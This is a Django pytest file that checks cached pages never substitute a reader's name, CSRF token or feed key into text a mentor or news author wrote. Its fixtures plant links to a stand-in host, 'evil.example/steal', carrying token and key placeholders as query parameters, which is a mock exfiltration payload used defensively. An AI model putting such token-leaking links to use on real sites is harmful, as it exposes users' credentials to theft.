"""A reader's own values in pages from the shared cache (their name, the CSRF
token of their forms, the key of their feed addresses) go where the site puts
them, and never into text an author wrote: a mentor who writes what the site
once used as its placeholders, in any field, gets their text shown as they
wrote it to every reader."""

import re
from html import unescape
from urllib.parse import quote_plus

import pytest
from django.contrib.auth.models import Group
from django.test import Client
from django.utils.html import escape

from pages.common.subscriptions import subscription_key
from pages.factories import NewsPageFactory, section
from pages.models import MentorPage, NewsIndexPage, StaffProfile

pytestmark = pytest.mark.django_db

# The site's placeholders as they were, and their look-alikes: escaped, in
# capitals, encoded in an address.
WRITTEN = [
    "personal-7f3a-name",
    "personal-7f3a-csrf",
    "personal-7f3a-feed-key",
    "PERSONAL-7F3A-NAME",
    "personal&#45;7f3a&#45;feed&#45;key",
    "personal%2D7f3a%2Dfeed%2Dkey",
]
EVIL = "https://evil.example/steal"


def reader(django_user_model, username, first_name):
    user = django_user_model.objects.create_user(
        username, password="x", first_name=first_name, last_name="Lukija"
    )
    user.groups.set(Group.objects.filter(name="Staff"))
    StaffProfile.objects.create(user=user)
    client = Client()
    client.force_login(user)
    return client, user


def links_to_evil(html):
    return [unescape(href) for href in re.findall(r'href="(https://evil[^"]*)"', html)]


def personal_values(html, user):
    """What of `user`'s own values the site put in the page: their name, the
    CSRF token of the log-out form, and their feed key."""
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', html)[1]
    key = subscription_key(user)
    return [user.get_full_name(), token, key, quote_plus(key)]


@pytest.fixture
def hostile_mentor():
    """The demo mentor's profile, their name, bio (a rich-text link), Teams
    link and job title written with the placeholders."""
    mentor = MentorPage.objects.get(user__username="mentor", locale__language_code="fi")
    written = " ".join(WRITTEN)
    mentor.title = f"Jari {WRITTEN[0]}"
    mentor.job_title = written
    mentor.teams_link = f"{EVIL}?k={WRITTEN[2]}&t={WRITTEN[1]}"
    links = "".join(f'<a href="{EVIL}?v={each}">{each}</a> ' for each in WRITTEN)
    mentor.bio = f"<p>{links}</p>"
    mentor.save_revision().publish()
    return mentor


def test_a_mentors_profile_carries_no_readers_values_in_the_mentors_text(
    django_user_model, hostile_mentor
):
    anna, _anna = reader(django_user_model, "anna", "Anna")
    ben, ben_user = reader(django_user_model, "ben", "Ben")
    url = hostile_mentor.url
    assert anna.get(url).status_code == 200  # now kept for readers like Ben
    html = ben.get(url).text

    values = personal_values(html, ben_user)
    evil_links = links_to_evil(html)
    assert len(evil_links) == len(WRITTEN) + 1  # the bio's links and Teams
    for link in evil_links:
        assert not any(value in link for value in values), link
    assert f"<h1>Jari {WRITTEN[0]}</h1>" in html
    assert escape(" ".join(WRITTEN)) in html  # the job title as written
    # The reader's own values are still where the site puts them.
    assert "Kirjautuneena: Ben Lukija" in html


def test_the_directory_shows_the_mentors_text_as_written_to_every_reader(
    django_user_model, hostile_mentor
):
    anna, _anna = reader(django_user_model, "anna", "Anna")
    ben, ben_user = reader(django_user_model, "ben", "Ben")
    url = hostile_mentor.get_parent().url
    anna.get(url)
    html = ben.get(url).text

    values = personal_values(html, ben_user)
    for link in links_to_evil(html):
        assert not any(value in link for value in values), link
    assert f"Jari {WRITTEN[0]}</a>" in html
    assert "Ben Lukija" not in html.split('class="site-main"')[1]


def test_news_written_with_the_placeholders_leaves_the_readers_key_in_the_feed_links(
    django_user_model,
):
    news = NewsPageFactory(
        title=f"Uutinen {WRITTEN[2]}",
        lead=" ".join(WRITTEN),
        body=[
            (
                "paragraph",
                f'<p><a href="{EVIL}?key={WRITTEN[2]}">Lue lisää</a> {WRITTEN[1]}</p>',
            )
        ],
    )
    anna, _anna = reader(django_user_model, "anna", "Anna")
    ben, ben_user = reader(django_user_model, "ben", "Ben")
    index = section(NewsIndexPage).url
    for url in [news.url, index]:
        anna.get(url)
    page = ben.get(news.url).text
    listing = ben.get(index).text

    for html in [page, listing]:
        values = personal_values(html, ben_user)
        for link in links_to_evil(html):
            assert not any(value in link for value in values), link
        assert f"Uutinen {WRITTEN[2]}" in html
    assert f"{EVIL}?key={WRITTEN[2]}" in page
    key = quote_plus(subscription_key(ben_user))
    feed_links = re.findall(r'href="(http[^"]*/feeds/[^"]*)"', listing)
    assert feed_links and all(f"key={key}" in link for link in feed_links)
